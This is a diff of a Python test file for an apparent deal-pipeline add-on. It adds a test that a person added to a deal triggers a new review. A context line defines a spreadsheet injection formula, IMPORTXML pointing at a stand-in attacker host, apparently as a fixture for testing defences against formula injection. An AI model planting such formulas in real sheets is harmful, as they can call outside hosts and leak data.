@@ -21,7 +21,7 @@ from addon.domain.review_layout import grid_capacity
 from addon.domain.teams import find_team, load_teams
 from addon.services.consolidate import Consolidator
 from addon.services.context import Services, today
-from addon.store import OutcomeRecord
+from addon.store import OutcomeRecord, PersonRecord
 from localgoogle.server import Running
 
 FORMULA_TEXT = '=IMPORTXML("http://evil.example","//a")'
@@ -169,6 +169,28 @@ def test_an_outcome_set_with_no_edit_to_the_plan_is_reviewed_again(
     assert review.written != "nothing"
     assert list(review.frames["Closed"]["deal_id"]) == [lost.deal_id]
     assert lost.deal_id not in set(review.frames["Pipeline"]["deal_id"])
+
+
+def test_a_deal_record_changed_with_no_edit_to_the_plan_is_reviewed_again(
+    local_google: Running, tmp_path: Path, manager: str
+) -> None:
+    """The deal records are an input of the review of their own: a person added to a deal in
+    the store (nothing written to its plan) is a new input, and the next consolidate reviews."""
+    services = _services(local_google, tmp_path, manager)
+    try:
+        _pipeline(services, 2, uuid.uuid4().int % 10_000)
+        Consolidator(services).run()
+        (unchanged,), _, _ = Consolidator(services).run()
+        with services.store.transaction() as tx:
+            deal = tx.deals.newest_first()[0]
+            tx.deals.add_person(
+                deal.deal_id, PersonRecord("new.cfo@buyer.example", Side.BUYER, "New CFO")
+            )
+        (review,), _, _ = Consolidator(services).run()
+    finally:
+        services.close()
+    assert (unchanged.written, unchanged.frames) == ("nothing", {})  # the last review kept
+    assert review.frames  # computed again
 
 
 def test_the_structure_is_written_only_when_it_changes(services: Services, manager: str) -> None:
